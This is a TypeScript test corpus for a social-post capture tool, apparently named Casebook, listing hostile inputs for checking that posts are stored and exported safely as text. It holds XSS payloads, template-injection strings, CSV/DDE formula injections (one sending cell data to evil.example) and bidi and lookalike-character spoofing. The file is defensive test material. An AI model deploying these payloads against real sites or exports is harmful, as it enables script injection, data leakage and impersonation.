/**
 * Hostile post content (issue 9, point 3): what a customer can put into a post, or what a
 * site can render in one, that must reach Casebook's database, pages and exports as text
 * and never as markup or code. test/e2e/hostile.test.ts captures every input through every
 * site adapter; `npm run bench` counts them (hostileFigures).
 *
 * Every input that could run code, run anywhere, says so: it adds its id to `__pwned`,
 * sets the document's title to "PWNED <id>", logs "PWNED <id>" to the console and writes
 * `localStorage.__pwned`: in the host page and in Casebook's own pages alike.
 *
 * Two ways into a post:
 * - `text`: one text node in the post's text box, as a site shows what was typed (escaped).
 *   It must come out as the same characters, everywhere.
 * - `markup`: parsed as HTML into the text box (a site that renders rich text, or one whose
 *   escaping slipped): live DOM in the host page. Casebook must store what a reader sees.
 *   Markup that fires by itself in the host page (an image's onerror, an svg's onload) is
 *   the site's doing, not Casebook's: in its own place (inside `[data-hostile-home]`) it
 *   only adds its id to `__hostileHome`, which proves it was live; moved or copied anywhere
 *   else, it is the payload above.
 * - `nested`: `depth` elements, one inside the other, built with DOM calls (Chromium's HTML
 *   parser flattens nesting past 512), around `content`.
 *
 * Only ASCII in this file: everything else is a \u escape (see notes/toolchain.md).
 */

/** The attribute that marks a hostile post's text box in the host page: markup's home. */
export const HOME_ATTR = 'data-hostile-home';

/** Code that, if it ever runs, leaves every trace a test can read. No double quotes in it. */
export function ranCode(id: string, target = 'window'): string {
  return (
    `${target}.__pwned=(${target}.__pwned||[]).concat('${id}');` +
    `${target}.document.title='PWNED ${id}';console.error('PWNED ${id}');` +
    `try{${target}.localStorage.setItem('__pwned','${id}')}catch(e){}`
  );
}

/** An event handler for live markup: at home it only reports that it fired. */
function guarded(id: string): string {
  return (
    `if(this.closest('[${HOME_ATTR}]')){window.__hostileHome=(window.__hostileHome||[]).concat('${id}')}` +
    `else{${ranCode(id)}}`
  );
}

/** The script of an <iframe srcdoc>: it runs in the frame, so it reports to its parent. */
function guardedInFrame(id: string): string {
  return (
    `var f=window.frameElement;if(f&amp;&amp;f.closest('[${HOME_ATTR}]')){parent.__hostileHome=(parent.__hostileHome||[]).concat('${id}')}` +
    `else{${ranCode(id, 'parent')}}`
  );
}

export type HostileWay = 'text' | 'markup' | 'nested';

export interface HostileInput {
  /** Short and stable: it names the input in flags, failures and figures. */
  id: string;
  description: string;
  way: HostileWay;
  /** The text (`text`), the HTML (`markup`) or the innermost text (`nested`). */
  content: string;
  /** `nested` only: how many elements deep. */
  depth?: number;
  /**
   * What a reader of the post sees: the plain text a capture must store, before a site's
   * own whitespace rule and the length limit.
   */
  shown: string;
  /** Ids that live markup reports into `__hostileHome` from its own place (proof it is live). */
  firesAtHome?: string[];
  /** Also saved as a testimonial: its quote goes through the exports. */
  testimonial?: boolean;
}

const MB = 1024 * 1024;

/** 1 MB of words that look like markup: far past the stored limit (POST_LIMITS.text). */
const HUGE_WORDS = (() => {
  const unit = '<b>refund</b> please &amp; thanks ';
  return unit.repeat(Math.ceil(MB / unit.length)).slice(0, MB);
})();

/** 1 MB of one emoji after one letter: the limit falls between an emoji's two halves. */
const HUGE_EMOJI = `x${'\ud83d\ude00'.repeat(MB / 2)}`;

/** Combining marks piled on each letter ("zalgo"): 40 marks per letter. */
const ZALGO = Array.from('refund', (letter, i) => {
  let marks = '';
  for (let k = 0; k < 40; k++) marks += String.fromCharCode(0x300 + ((i * 7 + k) % 0x70));
  return letter + marks;
}).join('');

export const HOSTILE_CORPUS: readonly HostileInput[] = [
  // ---- Text that is markup, if anything ever parses it ---------------------------------
  {
    id: 'script-text',
    description: 'a <script> element, typed as text',
    way: 'text',
    content: `Hi <script>${ranCode('script-text')}</script> team`,
    shown: `Hi <script>${ranCode('script-text')}</script> team`,
    testimonial: true,
  },
  {
    id: 'img-onerror-text',
    description: 'an <img src=x onerror=...>, typed as text',
    way: 'text',
    content: `<img src=x onerror="${ranCode('img-onerror-text')}"> my order`,
    shown: `<img src=x onerror="${ranCode('img-onerror-text')}"> my order`,
    testimonial: true,
  },
  {
    id: 'event-attributes-text',
    description:
      'svg onload, body onload, details ontoggle, onmouseover and autofocus onfocus, typed as text',
    way: 'text',
    content:
      `<svg onload="${ranCode('event-attributes-text')}"></svg>` +
      `<body onload="${ranCode('event-attributes-text')}">` +
      `<details open ontoggle="${ranCode('event-attributes-text')}">x</details>` +
      `<b onmouseover="${ranCode('event-attributes-text')}">hover</b>` +
      `<input autofocus onfocus="${ranCode('event-attributes-text')}">`,
    shown:
      `<svg onload="${ranCode('event-attributes-text')}"></svg>` +
      `<body onload="${ranCode('event-attributes-text')}">` +
      `<details open ontoggle="${ranCode('event-attributes-text')}">x</details>` +
      `<b onmouseover="${ranCode('event-attributes-text')}">hover</b>` +
      `<input autofocus onfocus="${ranCode('event-attributes-text')}">`,
  },
  {
    id: 'javascript-url-text',
    description: 'javascript: and data: addresses, typed as text',
    way: 'text',
    content: `see javascript:${ranCode('javascript-url-text')}// and data:text/html,<script>${ranCode('javascript-url-text')}</script>`,
    shown: `see javascript:${ranCode('javascript-url-text')}// and data:text/html,<script>${ranCode('javascript-url-text')}</script>`,
  },
  {
    id: 'iframe-srcdoc-text',
    description: 'an <iframe srcdoc> holding a script, typed as text',
    way: 'text',
    content: `<iframe srcdoc="<script>${ranCode('iframe-srcdoc-text', 'parent')}</script>"></iframe>`,
    shown: `<iframe srcdoc="<script>${ranCode('iframe-srcdoc-text', 'parent')}</script>"></iframe>`,
  },
  {
    id: 'entities-text',
    description:
      'HTML entities that decode into markup, typed as text (one decoding too many makes a tag)',
    way: 'text',
    content: `&lt;img src=x onerror=${ranCode('entities-text')}&gt; &#60;script&#62; &amp;lt;b&amp;gt; &#x3C;/textarea&#x3E;`,
    shown: `&lt;img src=x onerror=${ranCode('entities-text')}&gt; &#60;script&#62; &amp;lt;b&amp;gt; &#x3C;/textarea&#x3E;`,
    testimonial: true,
  },
  {
    id: 'closing-tags-text',
    description: 'tags that end a context: </p></textarea></style></title></script><!-- and ]]>',
    way: 'text',
    content: `</p></textarea></style></title></script><!-- ]]> --> <plaintext> end`,
    shown: `</p></textarea></style></title></script><!-- ]]> --> <plaintext> end`,
  },
  {
    id: 'template-strings',
    description:
      '{{template}}, ${...}, #{...}, <%= %> and the saved replies\u2019 own {placeholders}',
    way: 'text',
    content:
      "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{7*7} <%= 7*7 %> " +
      '{name} {handle} {case} {link} {agent} {{name}}',
    shown:
      "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{7*7} <%= 7*7 %> " +
      '{name} {handle} {case} {link} {agent} {{name}}',
    testimonial: true,
  },
  // ---- Spreadsheet formulas (CSV exports) ----------------------------------------------
  {
    id: 'csv-hyperlink',
    description: 'a spreadsheet formula (=HYPERLINK) on the first of two lines',
    way: 'text',
    content:
      '=HYPERLINK("https://evil.example/?leak="&A1,"Refund status")\nThanks for the quick help!',
    shown:
      '=HYPERLINK("https://evil.example/?leak="&A1,"Refund status")\nThanks for the quick help!',
    testimonial: true,
  },
  {
    id: 'csv-plus',
    description: 'a formula starting with +',
    way: 'text',
    content: "+SUM(1+1)*cmd|' /C calc'!A0 great service",
    shown: "+SUM(1+1)*cmd|' /C calc'!A0 great service",
    testimonial: true,
  },
  {
    id: 'csv-minus',
    description: 'a formula starting with -',
    way: 'text',
    content: "-2+3+cmd|' /C calc'!A0 love it",
    shown: "-2+3+cmd|' /C calc'!A0 love it",
    testimonial: true,
  },
  {
    id: 'csv-at',
    description: 'a formula starting with @',
    way: 'text',
    content: "@SUM(1+1)*cmd|' /C calc'!A0",
    shown: "@SUM(1+1)*cmd|' /C calc'!A0",
    testimonial: true,
  },
  {
    id: 'csv-dde',
    description: 'the classic DDE formula, alone on its line',
    way: 'text',
    content: "=cmd|' /C calc'!A0",
    shown: "=cmd|' /C calc'!A0",
    testimonial: true,
  },
  // ---- Invisible and direction-changing characters -------------------------------------
  {
    id: 'zero-width',
    description: 'zero-width space, joiner, non-joiner, word joiner and BOM inside words',
    way: 'text',
    content:
      're\u200bfund for ord\u200cer 44\u200d11 \ud83d\udc69\u200d\ud83d\udcbb to\ufeffday, n\u2060ow',
    shown:
      're\u200bfund for ord\u200cer 44\u200d11 \ud83d\udc69\u200d\ud83d\udcbb to\ufeffday, n\u2060ow',
    testimonial: true,
  },
  {
    id: 'rtl-override',
    description: 'right-to-left override, closed once and left open at the end',
    way: 'text',
    content: 'Refund \u202eredro ym\u202c please, see invoice\u202egnp.exe',
    shown: 'Refund \u202eredro ym\u202c please, see invoice\u202egnp.exe',
    testimonial: true,
  },
  {
    id: 'bidi-isolates',
    description: 'bidi isolates and embeddings (LRI, RLI, FSI, PDI, RLE, LRO, RLM), some left open',
    way: 'text',
    content:
      '\u2067\u0627\u0644\u0639\u0645\u064a\u0644\u2069 says \u2066LTR\u2069 \u2068first\u2069 ' +
      '\u202bembedded \u202dforced\u200f! \u2067open',
    shown:
      '\u2067\u0627\u0644\u0639\u0645\u064a\u0644\u2069 says \u2066LTR\u2069 \u2068first\u2069 ' +
      '\u202bembedded \u202dforced\u200f! \u2067open',
  },
  {
    id: 'zalgo',
    description: 'combining marks stacked 40 deep on every letter',
    way: 'text',
    content: `${ZALGO} now`,
    shown: `${ZALGO} now`,
    testimonial: true,
  },
  {
    id: 'lone-surrogates',
    description: 'unpaired UTF-16 halves (a DOM string allows them; UTF-8 does not)',
    way: 'text',
    content: 'lone high \ud800 and low \udfff, reversed pair \udc00\ud800 end',
    shown: 'lone high \ud800 and low \udfff, reversed pair \udc00\ud800 end',
    testimonial: true,
  },
  {
    id: 'lookalike-handles',
    description:
      'handles that look like the brand: Cyrillic a, Greek Alpha, fullwidth @ and letters',
    way: 'text',
    content:
      'Please DM @\u0430cmesupport or @\u0391cmeSupport or \uff20AcmeSupport or ' +
      '@\uff41\uff43\uff4d\uff45 (not @AcmeSupport)',
    shown:
      'Please DM @\u0430cmesupport or @\u0391cmeSupport or \uff20AcmeSupport or ' +
      '@\uff41\uff43\uff4d\uff45 (not @AcmeSupport)',
  },
  {
    id: 'control-characters',
    description: 'NUL, C0 and C1 controls, ANSI escape, DEL, line and paragraph separators',
    way: 'text',
    content: 'a\u0000b\u0001c\u0007d\u001b[31me\u007ff\u0085g\u009bh\u2028i\u2029j',
    shown: 'a\u0000b\u0001c\u0007d\u001b[31me\u007ff\u0085g\u009bh\u2028i\u2029j',
    testimonial: true,
  },
  {
    id: 'huge-1mb',
    description: '1 MB of words that look like markup (cut to the stored limit)',
    way: 'text',
    content: HUGE_WORDS,
    shown: HUGE_WORDS,
    testimonial: true,
  },
  {
    id: 'huge-1mb-emoji',
    description: '1 MB of emoji after one letter: the limit falls inside an emoji',
    way: 'text',
    content: HUGE_EMOJI,
    shown: HUGE_EMOJI,
  },
  // ---- Live markup in the host page ------------------------------------------------------
  {
    id: 'script-markup',
    description: 'live <script>, <noscript> and <style> elements (never text a reader sees)',
    way: 'markup',
    content:
      `before <script data-hostile>${ranCode('script-markup')}</script>` +
      `<noscript data-hostile><img src=x onerror="${ranCode('script-markup')}"></noscript>` +
      `<style data-hostile>[data-hostile-none]{color:red}</style>after`,
    shown: 'before after',
  },
  {
    id: 'img-onerror-markup',
    description: 'a live <img onerror> whose alt text is itself markup',
    way: 'markup',
    content:
      `look <img data-hostile src="/hostile-missing.png" ` +
      `alt="<img src=x onerror=${ranCode('img-alt')}>" onerror="${guarded('img-onerror-markup')}"> here`,
    shown: `look <img src=x onerror=${ranCode('img-alt')}> here`,
    firesAtHome: ['img-onerror-markup'],
  },
  {
    id: 'event-attributes-markup',
    description: 'live svg onload, details ontoggle and onmouseover',
    way: 'markup',
    content:
      `<svg data-hostile onload="${guarded('svg-onload')}" width="1" height="1"></svg> ` +
      `<details data-hostile open ontoggle="${guarded('details-ontoggle')}"><summary>more</summary> inside</details> ` +
      `<b data-hostile onmouseover="${guarded('b-onmouseover')}">bold</b>`,
    shown: ' more inside bold',
    // Chromium fires no load event for an inline <svg> parsed by innerHTML: only details.
    firesAtHome: ['details-ontoggle'],
  },
  {
    id: 'javascript-link-markup',
    description: 'a live <a href="javascript:...">',
    way: 'markup',
    content: `Click <a data-hostile href="javascript:${ranCode('javascript-link-markup')}">here for a refund</a> now`,
    shown: 'Click here for a refund now',
  },
  {
    id: 'iframe-srcdoc-markup',
    description: 'a live <iframe srcdoc> whose script runs in the frame',
    way: 'markup',
    content: `frame: <iframe data-hostile width="20" height="20" srcdoc="<script>${guardedInFrame('iframe-srcdoc-markup')}</script>"></iframe> end`,
    shown: 'frame:  end',
    firesAtHome: ['iframe-srcdoc-markup'],
  },
  {
    id: 'entities-markup',
    description: 'entities in the page source that decode into markup-looking text',
    way: 'markup',
    content: `&lt;img src=x onerror=${ranCode('entities-markup')}&gt; &amp;lt;script&amp;gt; &#60;b&#62;`,
    shown: `<img src=x onerror=${ranCode('entities-markup')}> &lt;script&gt; <b>`,
  },
  {
    id: 'comments-markup',
    description: 'an HTML comment holding a script, and a CDATA section',
    way: 'markup',
    // Outside svg and math, HTML reads a CDATA section as a comment that ends at the first >.
    content: `<!-- <script>${ranCode('comments-markup')}</script> -->visible<![CDATA[ hidden ]]> text`,
    shown: 'visible text',
  },
  {
    id: 'deep-nesting',
    description: 'text inside 5,000 nested elements',
    way: 'nested',
    content: 'nested 5000 deep',
    depth: 5000,
    shown: 'nested 5000 deep',
  },
];

/** Adapters the corpus goes through: every social site Casebook captures from. */
export const HOSTILE_ADAPTERS = [
  'x',
  'facebook',
  'instagram',
  'linkedin',
  'reddit',
  'youtube',
  'trustpilot',
] as const;

export interface HostileFigures {
  /** Inputs in the corpus. */
  hostileInputs: number;
  /** Site adapters each input is captured through. */
  adapters: number;
  /** Captures the end-to-end test makes: every input through every adapter. */
  tried: number;
  /** Of those, also saved as testimonials (their quotes go through the exports). */
  testimonials: number;
  /** Inputs by how they enter a post: typed text, live markup, nested elements. */
  byWay: Record<HostileWay, number>;
}

/**
 * The figure `npm run bench` reports (issue 9, point 3): how many hostile inputs
 * test/e2e/hostile.test.ts puts through how many adapters. A count, not a timing: the
 * test fails on any input stored or shown as markup, exported unsafely, or run.
 */
export function hostileFigures(): HostileFigures {
  const count = (way: HostileWay) => HOSTILE_CORPUS.filter((input) => input.way === way).length;
  return {
    hostileInputs: HOSTILE_CORPUS.length,
    adapters: HOSTILE_ADAPTERS.length,
    tried: HOSTILE_CORPUS.length * HOSTILE_ADAPTERS.length,
    testimonials:
      HOSTILE_CORPUS.filter((input) => input.testimonial).length * HOSTILE_ADAPTERS.length,
    byWay: { text: count('text'), markup: count('markup'), nested: count('nested') },
  };
}
